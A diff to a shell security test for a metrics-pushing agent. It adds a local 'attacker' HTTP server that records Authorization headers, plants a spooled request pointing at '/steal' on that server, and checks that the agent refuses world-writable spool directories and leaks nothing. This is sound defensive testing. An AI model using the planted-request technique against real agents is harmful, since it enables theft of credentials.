@@ -94,13 +94,28 @@ chmod 600 "$TMP/token"
 # --- 1. the spool ------------------------------------------------------------------
 P_GOOD=$(free_port)
 start_server "$TMP/good.log" "$P_GOOD" || fail "server starts" "$(cat "$TMP/good.log.out")"
+# The attacker's server records every request it gets, with its credentials.
 P_EVIL=$(free_port)
-start_server "$TMP/evil.log" "$P_EVIL" || fail "second server starts" "$(cat "$TMP/evil.log.out")"
+: >"$TMP/evil.log"
+start_bg python3 -c '
+import http.server, sys
+class H(http.server.BaseHTTPRequestHandler):
+    def do_POST(self):
+        with open(sys.argv[2], "a") as f:
+            f.write("%s %s %s\n" % (self.command, self.path, self.headers.get("Authorization")))
+        self.send_response(200); self.end_headers()
+    do_GET = do_PUT = do_POST
+    def log_message(self, *a): pass
+http.server.HTTPServer(("127.0.0.1", int(sys.argv[1])), H).serve_forever()
+' "$P_EVIL" "$TMP/evil.log"
+for i in $(seq 50); do (exec 3<>"/dev/tcp/127.0.0.1/$P_EVIL") 2>/dev/null && break; sleep 0.1; done
 mkdir -m 777 "$PUB/spool777"
 as_evil sh -c "printf 'LBPSPOOL 1\n@127.0.0.1:$P_EVIL/steal?x=\napplication/octet-stream\n1\nx' >'$PUB/spool777/0000000000000001.req'"
 refused "spool: a world-writable --spool-dir is refused" "writable by group or others" \
 	"${AGENT[@]}" -d 2 --push "http://127.0.0.1:$P_GOOD" --auth-token-file "$TMP/token" \
 	--spool-dir "$PUB/spool777"
+check "spool: the planted request did not reach the other host ($(head -c 200 "$TMP/evil.log"))" \
+	[ ! -s "$TMP/evil.log" ]
 mkdir -m 700 "$PUB/spool_evil"
 chown "$EVIL" "$PUB/spool_evil"
 refused "spool: another user's --spool-dir is refused" "owned by uid" \
@@ -174,13 +189,19 @@ check "long labels: 32 x 1100-byte labels round-trip the spool ($n delivered; $(
 # --- 6. two agents, one spool directory -------------------------------------------------
 P_LATE=$(free_port)
 mkdir -m 700 "$TMP/shared"
-"${AGENT[@]}" -d 5 --push "http://127.0.0.1:$P_LATE" --service two-a --spool-dir "$TMP/shared" \
+"${AGENT[@]}" -d 8 --push "http://127.0.0.1:$P_LATE" --service two-a --spool-dir "$TMP/shared" \
 	2>"$TMP/two-a.err" &
 TA=$!
-"${AGENT[@]}" -d 5 --push "http://127.0.0.1:$P_LATE" --service two-b --spool-dir "$TMP/shared" \
+"${AGENT[@]}" -d 8 --push "http://127.0.0.1:$P_LATE" --service two-b --spool-dir "$TMP/shared" \
 	2>"$TMP/two-b.err" &
 TB=$!
-sleep 3.5	# both spool while the backend is down
+for i in $(seq 300); do
+	grep -q "continuous:" "$TMP/two-a.err" && grep -q "continuous:" "$TMP/two-b.err" && break
+	sleep 0.1
+done
+sleep 3.5	# both spool three intervals while the backend is down
+n=$(ls "$TMP/shared" | grep -c '\.req$')
+check "shared spool: each agent's requests are files of their own, none overwritten ($n files)" [ "$n" -ge 6 ]
 start_server "$TMP/late.log" "$P_LATE" || fail "late server starts" "$(cat "$TMP/late.log.out")"
 wait "$TA" "$TB"
 sleep 0.5
@@ -188,7 +209,7 @@ for s in a b; do
 	sent=$(grep -o '[0-9]* delivered' "$TMP/two-$s.err" | grep -o '^[0-9]*')
 	got=$(grep -c $'^ok\t.*service=two-'"$s"$'\t' "$TMP/late.log")
 	check "shared spool: agent $s's deliveries all reached the server once ($sent delivered, $got received)" \
-		[ -n "$sent" ] && [ "$sent" -ge 4 ] && [ "$got" -eq "$sent" ]
+		[ -n "$sent" ] && [ "$sent" -ge 6 ] && [ "$got" -eq "$sent" ]
 done
 dups=$(awk -F'\t' '$1 == "ok" { k = ""; for (i = 2; i <= NF; i++) if ($i ~ /^(service|from)=/) k = k $i; print k }' \
 	"$TMP/late.log" | sort | uniq -d | wc -l)
